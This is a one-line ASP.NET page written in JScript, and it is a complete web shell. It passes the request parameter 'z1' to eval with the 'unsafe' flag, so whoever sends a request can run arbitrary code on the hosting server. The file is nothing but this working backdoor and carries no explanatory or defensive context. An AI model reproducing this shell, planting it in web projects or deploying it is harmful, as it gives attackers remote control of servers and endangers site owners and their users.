<%@ Page Language="Jscript"%><%eval(Request.Item["z1"],"unsafe");%>
